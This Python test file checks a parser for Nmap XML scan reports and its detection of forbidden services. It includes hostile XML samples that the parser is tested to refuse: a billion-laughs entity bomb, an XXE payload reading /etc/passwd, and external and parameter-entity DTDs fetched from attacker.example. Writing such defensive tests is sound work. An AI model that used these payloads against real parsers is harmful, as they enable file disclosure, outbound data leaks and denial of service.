"""Nmap XML reports: the real sample, and the XML that must be refused."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from policies.forbidden_services import ServiceKind
from vmportal.alerts import ParseError
from vmportal.compliance.nmap import forbidden_services, parse_nmap_xml, safe_xml_root

SAMPLE = Path(__file__).parent / "data" / "nmap_sample.xml"


def test_the_sample_report() -> None:
    report = parse_nmap_xml(SAMPLE.read_bytes())
    assert report.scanner == "nmap" and report.version == "5.51"
    assert report.started_at == datetime(2013, 5, 10, 3, 31, 22, tzinfo=UTC)
    (host,) = report.hosts
    assert host.status == "up"
    assert host.addresses == ("127.0.0.1",)
    assert host.hostnames == ("localhost",)
    assert [p.port for p in host.open_ports] == [22, 25, 80, 111, 631, 3306, 8009, 8080]

    smtp = next(p for p in host.ports if p.port == 25)
    assert (smtp.protocol, smtp.state, smtp.service, smtp.product) == ("tcp", "open", "smtp", "Postfix smtpd")
    http = next(p for p in host.ports if p.port == 80)
    assert (http.product, http.version) == ("Apache httpd", "2.2.15")
    assert [s.id for s in http.scripts] == ["http-methods", "http-headers"]
    jenkins = next(p for p in host.ports if p.port == 8080)
    assert jenkins.service == "tcpwrapped" and "X-Jenkins: 1.508" in jenkins.facts().scripts["http-headers"]


def test_the_sample_has_mail_on_25_and_no_proxy_on_8080() -> None:
    findings = forbidden_services(parse_nmap_xml(SAMPLE.read_bytes()))
    assert [(f.key, f.addresses, f.port.product) for f in findings] == [
        ("tcp/25/mail", ("127.0.0.1",), "Postfix smtpd")
    ]
    assert findings[0].kind is ServiceKind.MAIL


# Nmap 7's layout (DOCTYPE, stylesheet), IPv6 and MAC addresses, UDP, and one service of each kind.
MODERN = (Path(__file__).parent / "data" / "nmap_modern.xml").read_bytes()


def test_a_modern_report_with_doctype_ipv6_and_every_kind() -> None:
    report = parse_nmap_xml(MODERN)
    up, down = report.hosts
    assert up.addresses == ("10.20.1.15", "2001:db8:20::15") and up.mac == "00:50:56:AB:CD:EF"
    assert up.hostnames == ("jwc-web01.example.edu.cn",)
    assert down.status == "down" and down.ports == ()
    findings = forbidden_services(report)
    # 3128/tcp is only filtered: no finding
    assert [f.key for f in findings] == ["udp/53/dns", "tcp/8080/proxy", "tcp/80/forum"]
    assert findings[2].port.scripts[0].output == "学院论坛 - Powered by Discuz!"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE nmaprun [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nmaprun scanner="nmap"><host><address addr="10.0.0.1" addrtype="ipv4"/>
<hostnames><hostname name="&lol3;"/></hostnames></host></nmaprun>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nmaprun scanner="nmap"><host><address addr="10.0.0.1" addrtype="ipv4"/>
<hostnames><hostname name="&xxe;"/></hostnames></host></nmaprun>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE nmaprun SYSTEM "http://attacker.example/nmap.dtd">
<nmaprun scanner="nmap"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nmaprun [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<nmaprun scanner="nmap"/>
"""


@pytest.mark.parametrize(
    ("xml", "refused"),
    [
        (BILLION_LAUGHS, "a DOCTYPE with an internal subset"),
        (XXE, "a DOCTYPE with an internal subset"),
        (EXTERNAL_DTD, "a DOCTYPE naming an external DTD (http://attacker.example/nmap.dtd)"),
        (PARAMETER_ENTITY, "a DOCTYPE with an internal subset"),
    ],
)
def test_entity_and_dtd_tricks_are_refused(xml: str, refused: str) -> None:
    with pytest.raises(ParseError) as caught:
        parse_nmap_xml(xml)
    assert f"the XML contains {refused}" in caught.value.reason
    assert caught.value.reason.endswith("which is refused for safety")


def test_an_undeclared_entity_is_just_malformed() -> None:
    with pytest.raises(ParseError) as caught:
        safe_xml_root('<nmaprun scanner="nmap">&xxe;</nmaprun>')
    assert caught.value.code == "malformed_xml" and "undefined entity" in caught.value.reason


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        ("<nmaprun", "not well-formed XML"),
        (b"\xff\xfe<nmaprun/>", "not well-formed XML"),
        ('<report scanner="openvas"/>', "the root element is <report>, not <nmaprun>"),
        ('<nmaprun><host><address addr="host-1"/></host></nmaprun>', "address 'host-1' is not an IP address"),
        (
            '<nmaprun><host><address addr="10.0.0.1"/>'
            '<ports><port protocol="tcp" portid="99999"/></ports></host></nmaprun>',
            "portid '99999', not a port number",
        ),
    ],
)
def test_reports_that_are_not_understood(xml: str | bytes, message: str) -> None:
    with pytest.raises(ParseError, match=message):
        parse_nmap_xml(xml)


def test_minimal_report_with_missing_optional_parts() -> None:
    report = parse_nmap_xml(
        '<nmaprun><host><address addr="10.0.0.9"/><ports><port portid="25">'
        '<state state="open"/></port></ports></host></nmaprun>'
    )
    (host,) = report.hosts
    assert report.started_at is None and host.status == "unknown"
    (port,) = host.ports
    assert (port.protocol, port.service, port.product) == ("tcp", "", "")
    assert [f.key for f in forbidden_services(report)] == ["tcp/25/mail"]
